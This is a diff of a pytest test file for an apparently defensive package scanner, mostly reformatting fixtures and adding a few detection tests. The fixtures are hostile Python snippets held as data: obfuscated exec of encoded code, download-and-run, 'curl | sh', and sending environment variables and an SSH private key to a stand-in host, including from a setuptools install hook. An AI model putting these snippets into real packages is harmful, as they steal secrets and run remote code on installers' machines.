@@ -7,14 +7,17 @@ from __future__ import annotations
 
 import ast
 import base64
+import inspect
+import re
 import zlib
 
 import pytest
 
 from wharfinger_daemon.checks.eager_code import MAX_SOURCE_BYTES, EagerCodeCheck
-from wharfinger_daemon.checks.syntax import interpreter
+from wharfinger_daemon.checks.syntax import effects, interpreter
 from wharfinger_daemon.scanning.model import Subject, SubjectKind
 from wharfinger_daemon.scanning.plugin import ArtifactFormat, Member, ScanContext
+from wharfinger_daemon.scanning.weights import WEIGHTS
 
 PRINTED = base64.b64encode(b"print('hello')").decode()
 PACKED = base64.b64encode(zlib.compress(b"print('hello')"))[::-1]
@@ -40,7 +43,8 @@ DECODED = {
     "alias of exec": f"import base64\nrun = exec\nrun(base64.b64decode('{PRINTED}'))",
     "eval of compile": f"import base64\neval(compile(base64.b64decode('{PRINTED}'), 'x', 'exec'))",
     "through a variable": f"import base64\na = '{PRINTED}'\nb = base64.b64decode(a)\nc = b.decode()\nexec(c)",
-    "lambda": f"_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)({PACKED!r}))",
+    "lambda": "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n"
+    f"exec((_)({PACKED!r}))",
     "hex": f"exec(bytes.fromhex('{HEX}'))",
     "codecs": "import codecs\nexec(codecs.decode(\"cevag('uryyb')\", 'rot13'))",
     "marshal": "import marshal\nexec(marshal.loads(b'...'))",
@@ -54,11 +58,27 @@ DECODED = {
     + "))",
     "in a function that is called": f"import base64\ndef f(x):\n    exec(base64.b64decode(x))\nf('{PRINTED}')",
     "returned by a function": f"import base64\ndef f():\n    return base64.b64decode('{PRINTED}')\nexec(f())",
-    "in a method": f"import base64\nclass A:\n    def __init__(self, x):\n        exec(base64.b64decode(x))\nA('{PRINTED}')",
-    "in a thread": f"import base64, threading\ndef f():\n    exec(base64.b64decode('{PRINTED}'))\nthreading.Thread(target=f).start()",
+    "in a method": "import base64\n"
+    "class A:\n"
+    "    def __init__(self, x):\n"
+    "        exec(base64.b64decode(x))\n"
+    f"A('{PRINTED}')",
+    "in a thread": "import base64, threading\n"
+    "def f():\n"
+    f"    exec(base64.b64decode('{PRINTED}'))\n"
+    "threading.Thread(target=f).start()",
     "at exit": f"import base64, atexit\ndef f():\n    exec(base64.b64decode('{PRINTED}'))\natexit.register(f)",
-    "in try and with": f"import base64\ntry:\n    with open('x') as f:\n        exec(base64.b64decode('{PRINTED}'))\nexcept OSError:\n    pass",
-    "in an exception handler": f"import base64\ntry:\n    import x\nexcept ImportError:\n    exec(base64.b64decode('{PRINTED}'))",
+    "in try and with": "import base64\n"
+    "try:\n"
+    "    with open('x') as f:\n"
+    f"        exec(base64.b64decode('{PRINTED}'))\n"
+    "except OSError:\n"
+    "    pass",
+    "in an exception handler": "import base64\n"
+    "try:\n"
+    "    import x\n"
+    "except ImportError:\n"
+    f"    exec(base64.b64decode('{PRINTED}'))",
     "in match": f"import base64\nmatch 1:\n    case 1:\n        exec(base64.b64decode('{PRINTED}'))",
     "in a loop": f"import base64\nfor part in ['{PRINTED}']:\n    exec(base64.b64decode(part))",
     "in a comprehension": f"import base64\n[exec(base64.b64decode(part)) for part in ['{PRINTED}']]",
@@ -68,11 +88,25 @@ DECODED = {
     "walrus": f"import base64\nif (x := base64.b64decode('{PRINTED}')):\n    exec(x)",
     "added up": f"import base64\nx = ''\nx += '{PRINTED[:8]}'\nx += '{PRINTED[8:]}'\nexec(base64.b64decode(x))",
     "confusable identifiers": f"import base64\n\uff45\uff58\uff45\uff43(base64.b64decode('{PRINTED}'))",
-    "python -c": f"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', \"import base64;exec(base64.b64decode('{PRINTED}'))\"])",
+    "python -c": "import subprocess, sys\n"
+    f"subprocess.Popen([sys.executable, '-c', \"import base64;exec(base64.b64decode('{PRINTED}'))\"])",
     "globals": f"import base64\nglobals()['__builtins__'].exec(base64.b64decode('{PRINTED}'))",
-    "dropped and started": "import base64, subprocess\nwith open('a.exe', 'wb') as f:\n    f.write(base64.b64decode('AAAA'))\nsubprocess.Popen(['a.exe'])",
-    "run by a command class": f"import base64\nfrom setuptools.command.install import install\nclass A(install):\n    def run(self):\n        exec(base64.b64decode('{PRINTED}'))",
-    "run by an inherited command": f"import base64\nfrom setuptools import Command\nclass B(Command):\n    def run(self):\n        self.go()\n    def go(self):\n        exec(base64.b64decode('{PRINTED}'))",
+    "dropped and started": "import base64, subprocess\n"
+    "with open('a.exe', 'wb') as f:\n"
+    "    f.write(base64.b64decode('AAAA'))\n"
+    "subprocess.Popen(['a.exe'])",
+    "run by a command class": "import base64\n"
+    "from setuptools.command.install import install\n"
+    "class A(install):\n"
+    "    def run(self):\n"
+    f"        exec(base64.b64decode('{PRINTED}'))",
+    "run by an inherited command": "import base64\n"
+    "from setuptools import Command\n"
+    "class B(Command):\n"
+    "    def run(self):\n"
+    "        self.go()\n"
+    "    def go(self):\n"
+    f"        exec(base64.b64decode('{PRINTED}'))",
     "deep in a sum": "import base64\nexec(base64.b64decode("
     + "+".join(f"'{letter}'" for letter in PRINTED * 40)
     + "))",
@@ -96,7 +130,8 @@ DISGUISED = {
     "character codes": "import os\ngetattr(os, chr(115) + chr(121) + chr(115) + 'tem')('true')",
     "joined characters": "import os\ngetattr(os, ''.join(chr(c) for c in [115, 121, 115, 116, 101, 109]))('true')",
     "mapped characters": "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('true')",
-    "mapped by a lambda": "import os\ngetattr(os, ''.join(map(lambda c: chr(c ^ 1), [114, 120, 114, 117, 100, 108])))('true')",
+    "mapped by a lambda": "import os\n"
+    "getattr(os, ''.join(map(lambda c: chr(c ^ 1), [114, 120, 114, 117, 100, 108])))('true')",
     "bytes": "import os\ngetattr(os, bytes([115, 121, 115, 116, 101, 109]).decode())('true')",
     "replaced": "import os\ngetattr(os, 'sXyXsXtXeXm'.replace('X', ''))('true')",
     "imported by a computed name": "__import__('o' + 's').system('true')",
@@ -104,7 +139,8 @@ DISGUISED = {
     "vars of builtins": "import builtins\nvars(builtins)['ev' + 'al']('1')",
     "modules by a computed name": "import sys\nsys.modules['o' + 's'].system('true')",
     "formatted": "import os\na = 'sys'\ngetattr(os, f'{a}tem')('true')",
-    "decoded": f"import os, base64\ngetattr(os, base64.b64decode('{base64.b64encode(b'system').decode()}').decode())('true')",
+    "decoded": "import os, base64\n"
+    f"getattr(os, base64.b64decode('{base64.b64encode(b'system').decode()}').decode())('true')",
 }
 
 
@@ -116,10 +152,17 @@ def test_a_dangerous_function_that_is_reached_by_a_computed_name_is_found(source
 DOWNLOADED = {
     "exec of requests": "import requests\nexec(requests.get('https://example.invalid/x').text)",
     "exec of urlopen": "from urllib.request import urlopen as u\nexec(u('https://example.invalid/x').read().decode())",
-    "exec of a session": "import requests\ns = requests.Session()\nr = s.get('https://example.invalid/x')\nexec(r.content)",
+    "exec of a session": "import requests\n"
+    "s = requests.Session()\n"
+    "r = s.get('https://example.invalid/x')\n"
+    "exec(r.content)",
     "exec of httpx": "import httpx\neval(httpx.get('https://example.invalid/x').text)",
     "exec of a socket": "import socket\ns = socket.socket()\ns.connect(('example.invalid', 1))\nexec(s.recv(1024))",
-    "wrapped in try": "try:\n    import urllib.request as r\n    exec(r.urlopen('https://example.invalid/x').read())\nexcept Exception:\n    pass",
+    "wrapped in try": "try:\n"
+    "    import urllib.request as r\n"
+    "    exec(r.urlopen('https://example.invalid/x').read())\n"
+    "except Exception:\n"
+    "    pass",
 }
 
 
@@ -131,11 +174,16 @@ def test_downloaded_code_that_is_executed_is_found(source: str) -> None:
 STARTED = {
     "written then started": "import requests, os\nr = requests.get('https://example.invalid/a.exe')\n"
     "with open('a.exe', 'wb') as f:\n    f.write(r.content)\nos.startfile('a.exe')",
-    "written to a computed path": "import requests, os, subprocess, tempfile\np = os.path.join(tempfile.gettempdir(), 'a.exe')\n"
+    "written to a computed path": "import requests, os, subprocess, tempfile\n"
+    "p = os.path.join(tempfile.gettempdir(), 'a.exe')\n"
     "open(p, 'wb').write(requests.get('https://example.invalid/a').content)\nsubprocess.Popen([p])",
-    "urlretrieve": "from urllib.request import urlretrieve\nimport subprocess\nurlretrieve('https://example.invalid/a', 'payload.bin')\n"
+    "urlretrieve": "from urllib.request import urlretrieve\n"
+    "import subprocess\n"
+    "urlretrieve('https://example.invalid/a', 'payload.bin')\n"
     "subprocess.call('./payload.bin', shell=True)",
-    "pathlib": "import pathlib, requests, os\np = pathlib.Path('payload.py')\np.write_bytes(requests.get('https://example.invalid/a').content)\n"
+    "pathlib": "import pathlib, requests, os\n"
+    "p = pathlib.Path('payload.py')\n"
+    "p.write_bytes(requests.get('https://example.invalid/a').content)\n"
     "os.system(f'python {p}')",
     "the command itself": "import os, requests\nos.system(requests.get('https://example.invalid/cmd').text)",
     "wget": "import wget, subprocess\np = wget.download('https://example.invalid/a')\nsubprocess.run([p])",
@@ -148,7 +196,8 @@ def test_a_downloaded_program_that_is_started_is_found(source: str) -> None:
 
 
 COMMANDS = {
-    "encoded powershell": f"import subprocess\nsubprocess.Popen('powershell -WindowStyle Normal -EncodedCommand {PRINTED}')",
+    "encoded powershell": "import subprocess\n"
+    f"subprocess.Popen('powershell -WindowStyle Normal -EncodedCommand {PRINTED}')",
     "encoded powershell in a list": f"import subprocess\nsubprocess.Popen(['powershell', '-enc', '{PRINTED}'])",
     "powershell download": "import os\nos.system('powershell iwr https://example.invalid/x -OutFile x; ./x')",
     "curl to a shell": "import os\nos.system('curl -s https://example.invalid/x | sh')",
@@ -169,16 +218,36 @@ def test_a_suspicious_command_is_found(source: str) -> None:
 
 EXFILTRATION = {
     "environment as form": "import os, requests\nrequests.post('https://example.invalid', data=dict(os.environ))",
-    "environment as JSON": "import os, json, urllib.request\nurllib.request.urlopen('https://example.invalid', data=json.dumps(os.environ.copy()).encode())",
+    "environment as JSON": "import os, json, urllib.request\n"
+    "urllib.request.urlopen('https://example.invalid', data=json.dumps(os.environ.copy()).encode())",
     "environment unpacked": "import os, requests\nrequests.post('https://example.invalid', json={'e': {**os.environ}})",
-    "host name in the address": "import socket, urllib.request\nurllib.request.urlopen('https://example.invalid/?h=' + socket.gethostname())",
-    "user in a dictionary": "import getpass, requests\nd = {'u': getpass.getuser()}\nrequests.post('https://example.invalid', json=d)",
-    "user through a function": "import getpass, requests\ndef facts():\n    return {'u': getpass.getuser()}\nrequests.post('https://example.invalid', json=facts())",
+    "host name in the address": "import socket, urllib.request\n"
+    "urllib.request.urlopen('https://example.invalid/?h=' + socket.gethostname())",
+    "user in a dictionary": "import getpass, requests\n"
+    "d = {'u': getpass.getuser()}\n"
+    "requests.post('https://example.invalid', json=d)",
+    "user through a function": "import getpass, requests\n"
+    "def facts():\n"
+    "    return {'u': getpass.getuser()}\n"
+    "requests.post('https://example.invalid', json=facts())",
     "looked up in DNS": "import socket\nsocket.gethostbyname(socket.gethostname() + '.abc.example.com')",
-    "over a socket": "import socket, platform\ns = socket.socket()\ns.connect(('example.invalid', 1))\ns.sendall(platform.node().encode())",
-    "output of whoami": "import subprocess, requests\nrequests.post('https://example.invalid', data=subprocess.check_output('whoami'))",
-    "a private key": "import os, requests\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://example.invalid', data=k)",
-    "in a command class": "import os, requests\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        install.run(self)\n        requests.post('https://example.invalid', json=dict(os.environ))\nsetup(cmdclass={'install': I})",
+    "over a socket": "import socket, platform\n"
+    "s = socket.socket()\n"
+    "s.connect(('example.invalid', 1))\n"
+    "s.sendall(platform.node().encode())",
+    "output of whoami": "import subprocess, requests\n"
+    "requests.post('https://example.invalid', data=subprocess.check_output('whoami'))",
+    "a private key": "import os, requests\n"
+    "k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+    "requests.post('https://example.invalid', data=k)",
+    "in a command class": "import os, requests\n"
+    "from setuptools import setup\n"
+    "from setuptools.command.install import install\n"
+    "class I(install):\n"
+    "    def run(self):\n"
+    "        install.run(self)\n"
+    "        requests.post('https://example.invalid', json=dict(os.environ))\n"
+    "setup(cmdclass={'install': I})",
 }
 
 
@@ -218,23 +287,40 @@ CLEAN = {
     "version file with with": "with open('pkg/version.py') as f:\n    exec(f.read())",
     "version file compiled": "exec(compile(open('pkg/version.py', 'rb').read(), 'pkg/version.py', 'exec'), {})",
     "git describe": "import subprocess\nv = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()",
-    "compiler": "import subprocess, os\nsubprocess.check_call(['cmake', '..'], env=dict(os.environ, CC='gcc'))\nos.system('make')",
+    "compiler": "import subprocess, os\n"
+    "subprocess.check_call(['cmake', '..'], env=dict(os.environ, CC='gcc'))\n"
+    "os.system('make')",
     "environment is read": "import os\nif os.environ.get('CI'):\n    print(os.environ['HOME'])",
     "host name is read": "import socket\nprint(socket.gethostname())\nip = socket.gethostbyname(socket.gethostname())",
     "only defined": f"import base64\ndef f():\n    exec(base64.b64decode('{PRINTED}'))",
     "only a method": f"import base64\nclass A:\n    def f(self):\n        exec(base64.b64decode('{PRINTED}'))",
-    "decoded and not executed": f"import base64\nLOGO = base64.b64decode('{PRINTED}')\nopen('logo.png', 'wb').write(LOGO)",
+    "decoded and not executed": "import base64\n"
+    f"LOGO = base64.b64decode('{PRINTED}')\n"
+    "open('logo.png', 'wb').write(LOGO)",
     "eval of a constant": "import os\nx = eval('1 + 1')\nexec('y = 2')",
     "getattr of a constant": "import os\ngetattr(os, 'getpid')()\ngetattr(os, 'P_' + 'WAIT', None)",
     "optional import": "import importlib\nfor n in ('a', 'b'):\n    importlib.import_module('pkg.' + n)",
     "regular expression": "import re\nre.compile('x').match('y')\ndef compile(x): ...\ncompile('x')",
-    "command class": "import subprocess\nfrom setuptools import Command, setup\nclass T(Command):\n    def run(self):\n        subprocess.call(['pytest'])\nsetup(cmdclass={'test': T})",
+    "command class": "import subprocess\n"
+    "from setuptools import Command, setup\n"
+    "class T(Command):\n"
+    "    def run(self):\n"
+    "        subprocess.call(['pytest'])\n"
+    "setup(cmdclass={'test': T})",
     "loopback": "import requests\nrequests.get('http://localhost:8080/health')\nrequests.get('http://127.0.0.1/')",
     "names only": "import requests, subprocess, socket\nsession = requests.Session()\nsocket.socket().close()",
     "comment": f"# exec(base64.b64decode('{PRINTED}'))\n'''exec(base64.b64decode(x))'''",
-    "type checking": "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    from os import system\n    system('curl https://example.invalid | sh')\nelse:\n    import os",
+    "type checking": "from typing import TYPE_CHECKING\n"
+    "if TYPE_CHECKING:\n"
+    "    from os import system\n"
+    "    system('curl https://example.invalid | sh')\n"
+    "else:\n"
+    "    import os",
     "platform": "import platform\nurl = f'https://example.invalid/{platform.system()}-{platform.machine()}.zip'",
-    "codecs": "import codecs\ncodecs.decode('x', 'utf-8')\nwith codecs.open('README', encoding='utf-8') as f:\n    f.read()",
+    "codecs": "import codecs\n"
+    "codecs.decode('x', 'utf-8')\n"
+    "with codecs.open('README', encoding='utf-8') as f:\n"
+    "    f.read()",
     "zlib of a table": "import zlib\nTABLE = zlib.decompress(b'...')",
 }
 
@@ -361,11 +447,52 @@ def test_more_work_than_is_followed_is_told(monkeypatch: pytest.MonkeyPatch) -> 
         "chr(-1)\nchr('x')\nord('xx')\nbytes([300])\nbytes(['x'])\n'x'[5]\n'x'[::0]\n5[0]\n''.join([1])\nexec(1)",
         "1 // 0\n1 >> 10**6\n1 << 10**9\n'a' - 'b'\n'a' + b'b'\n'%s' % 1\n'x'.decode(1)\nb'x'.decode('nope')\nexec(1)",
         "(a, *b), c.d, e[0] = 1, 2, 3\n[x for x in y if x for z in x]\n{**a}\nexec(*a, **b)\ndel a\nassert a\nraise a",
-        "async def f(x, *a, y=1, **k):\n    async with a as b:\n        async for c in d:\n            await e\n    return\n"
+        "async def f(x, *a, y=1, **k):\n"
+        "    async with a as b:\n"
+        "        async for c in d:\n"
+        "            await e\n"
+        "    return\n"
         "import asyncio\nasyncio.run(f(1, 2, 3))\nexec(1)",
-        "getattr(exec)\n__import__()\nvars()\nmap(exec)\nmap(f, g)\nmap(str, 'abc')\nsys.modules[1]\nglobals()['x']\nexec()",
+        "exec('not python (')\nexec('\\0')\nclass A(B): ...\nclass C(A): ...\nx = f'{C()}'\nexec(x)",
+        "T = [" + "'a', " * 100 + "]\nexec(T[0])",
+        "x = [1, 2]\nx[0](1)\nx[5]\n'a'[0:'b']\n-x\nexec(x + [3])\ny = 3 * 'a'\n'a' * 10**9\nexec(y)",
+        "'a'.replace('a', 'b', 1)\nb'6578'.decode('hex')\nb'x'.hex()\n'x'.strip('y')\n'x'.upper().lower()\nexec(1)",
+        "getattr(exec)\n"
+        "__import__()\n"
+        "vars()\n"
+        "map(exec)\n"
+        "map(f, g)\n"
+        "map(str, 'abc')\n"
+        "sys.modules[1]\n"
+        "globals()['x']\n"
+        "exec()",
     ],
 )
 def test_odd_code_is_no_crash(source: str) -> None:
     for name in ("pkg-1.0/setup.py", "pkg/__init__.py"):
         rules(source, name)
+
+
+def test_a_download_without_a_name_of_its_own_that_is_started_is_found() -> None:
+    source = "import wget, subprocess\nwget.download('https://example.invalid/a', out='payload.bin')\n"
+    source += "subprocess.run(['./payload.bin'])"
+    assert "install-downloaded-process" in rules(source)
+
+
+def test_words_of_a_computed_command_are_read_as_they_would_be_run() -> None:
+    source = "import os\nc = ['curl', ' -s ', 'https://example.invalid/x']\n"
+    source += "os.system(''.join(c) + ' | ' + 'hs'[1] + 'hs'[0])"
+    assert "install-suspicious-process" in rules(source)
+
+
+def test_attributes_of_objects_are_followed() -> None:
+    source = f"import base64\nclass A: ...\na = A()\na.x = exec\na.y, b = base64.b64decode('{PRINTED}'), 1\nexec(b)\n"
+    assert set() == rules(source)
+
+
+def test_every_behaviour_has_a_weight_at_every_stage() -> None:
+    behaviours = set(re.findall(r'_report\(\s*"([a-z-]+)"', inspect.getsource(effects)))
+    assert len(behaviours) == 10
+    expected = {f"{stage}-{name}" for stage in ("install", "import", "startup") for name in behaviours}
+    expected |= {"startup-code", "unparsable-python", "unanalysable-python"}
+    assert expected == {rule for check, rule in WEIGHTS if check == "eager-code"}
